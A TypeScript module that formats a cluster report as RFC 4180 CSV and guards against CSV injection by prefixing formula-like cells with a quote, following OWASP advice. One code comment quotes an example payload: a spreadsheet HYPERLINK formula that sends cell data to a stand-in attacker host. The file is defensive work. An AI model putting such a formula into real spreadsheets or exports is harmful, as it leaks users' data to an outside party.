import type { Report } from '../types.js';

export const CSV_COLUMNS = ['cluster', 'kind', 'similarity', 'article', 'start', 'end', 'chars', 'title', 'text'] as const;

/**
 * One row per passage (cluster member), for spreadsheets and `pandas.read_csv`: rows of one
 * cluster are adjacent and share its id. RFC 4180: comma-separated, CRLF line ends, fields with
 * commas, quotes or line breaks in double quotes, quotes doubled. Offsets are code points, as in
 * the JSON report. Per-article figures and pairs are in the json and jsonl formats.
 * Titles, passages and file names are scraped content: a text cell a spreadsheet would run as a
 * formula gets a leading `'` (see `guardFormula`).
 */
export function formatCsv(report: Report): string {
  const titles = new Map(report.articles.map((a) => [a.id, a.title]));
  const rows: string[] = [CSV_COLUMNS.join(',')];
  for (const c of report.clusters) {
    for (const m of c.members) {
      rows.push([c.id, c.kind, c.similarity, m.article, m.start, m.end, m.end - m.start, titles.get(m.article) ?? '', m.text].map(field).join(','));
    }
  }
  return rows.join('\r\n') + '\r\n';
}

function field(value: string | number): string {
  const s = typeof value === 'number' ? String(value) : guardFormula(value);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * CSV injection: Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or
 * `@` as a formula (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the sheet away), and
 * tab or carriage return can hide such a start. OWASP's advice
 * (https://owasp.org/www-community/attacks/CSV_Injection): prefix those cells with a single quote,
 * which spreadsheets show as text. `=SUM(A1)` → `'=SUM(A1)`. Numbers are written as numbers.
 */
export function guardFormula(cell: string): string {
  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
}
